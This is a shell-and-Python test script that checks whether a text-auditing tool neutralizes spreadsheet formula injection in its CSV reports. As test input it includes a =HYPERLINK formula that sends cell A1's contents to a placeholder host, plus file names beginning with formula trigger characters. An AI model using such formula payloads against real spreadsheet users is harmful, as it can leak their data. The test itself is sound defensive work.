# Spreadsheet safety (docs/formats.md): no text field of quality.csv or
# findings.csv may begin with = + - @ TAB or CR, where Excel and LibreOffice
# would run it as a formula, unless --csv-raw asks for the raw text. The
# neutralized files still parse as RFC 4180 and give the original back with
# the documented rule (strip one apostrophe).
source "$(dirname "$0")/lib.sh"

IN="$TMP/in"
mkdir -p "$IN"
HYPER='=HYPERLINK("http://example.invalid/?q="&A1,"Cliquez ici")'
HNAME='=HYPERLINK("x","y")'  # a file name cannot hold the URL's slashes
# Article text that begins with a formula, twice (a duplicated line), and
# lines that begin with the other trigger characters.
{
	printf '%s\n\n' "$HYPER" "$HYPER"
	printf '+33 1 23 45 67 89 appelle le le standard.\n\n'
	printf -- '-2+3 font un, selon le le calcul.\n\n'
	printf '@SUM(A1:A9) est une une somme.\n\n'
	printf '\t=1+1 après une tabulation.\n\n'
} >"$IN/$HNAME.txt"
# Ids (file names) that begin with each trigger character.
for name in '+1 plus' '-1 moins' '@arobase' $'\ttab' $'\rcr' "'apostrophe" \
	'=1+1'; do
	printf 'Un texte ordinaire pour %s.\n' "x" >"$IN/$name.txt"
done

expect_status 0 "$RELIRE" audit -q --suggest-budget 0 --out "$TMP/safe" "$IN"
expect_status 0 "$RELIRE" audit -q --suggest-budget 0 --csv-raw \
	--out "$TMP/raw" "$IN"

python3 - "$TMP/safe" "$TMP/raw" "$IN" "$HNAME" <<'PY' || fail "CSV safety"
import csv, os, sys

safe, raw, indir, hyper = sys.argv[1:5]
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")

def unneutralize(f):
    if len(f) >= 2 and f[0] == "'" and f[1] in TRIGGERS + ("'",):
        return f[1:]
    return f

def rows(path):
    with open(path, encoding="utf-8", newline="") as f:
        return list(csv.reader(f, strict=True))

names = sorted(n[:-4] + ".txt" for n in os.listdir(indir))
for report in ("quality.csv", "findings.csv"):
    s, r = rows(os.path.join(safe, report)), rows(os.path.join(raw, report))
    assert len(s) == len(r) > 1, report
    for srow, rrow in zip(s, r):
        assert len(srow) == len(rrow)
        for sf, rf in zip(srow, rrow):
            # Neutralized: nothing starts like a formula.
            assert not sf.startswith(TRIGGERS), (report, sf)
            # The rule is exactly "one apostrophe more".
            assert unneutralize(sf) == rf, (report, sf, rf)
            if rf.startswith(TRIGGERS + ("'",)):
                assert sf == "'" + rf, (report, sf, rf)
    ids = sorted(row[0] for row in r[1:]) if report == "quality.csv" else None
    if ids is not None:
        assert ids == names, (ids, names)

# The article whose text begins with =HYPERLINK( : its id, and every
# finding whose original text begins with the formula, are neutralized.
q = {row[0]: row for row in rows(os.path.join(safe, "quality.csv"))[1:]}
assert "'" + hyper + ".txt" in q, sorted(q)
f = rows(os.path.join(safe, "findings.csv"))
col = f[0].index("original")
ours = [row for row in f[1:] if row[0] == "'" + hyper + ".txt"]
assert ours, "no finding in the =HYPERLINK( article"
formula = [row for row in ours if unneutralize(row[col]).startswith("=HYPERLINK(")]
assert formula, "no finding covers the duplicated =HYPERLINK( line"
for row in formula:
    assert row[col].startswith("'=HYPERLINK("), row[col]
PY

# The clean text itself is never altered by the CSV rule.
head -c 11 "$TMP/safe/clean/$HNAME.txt" | grep -qx -- '=HYPERLINK(' ||
	fail "clean text changed by neutralization"
finish
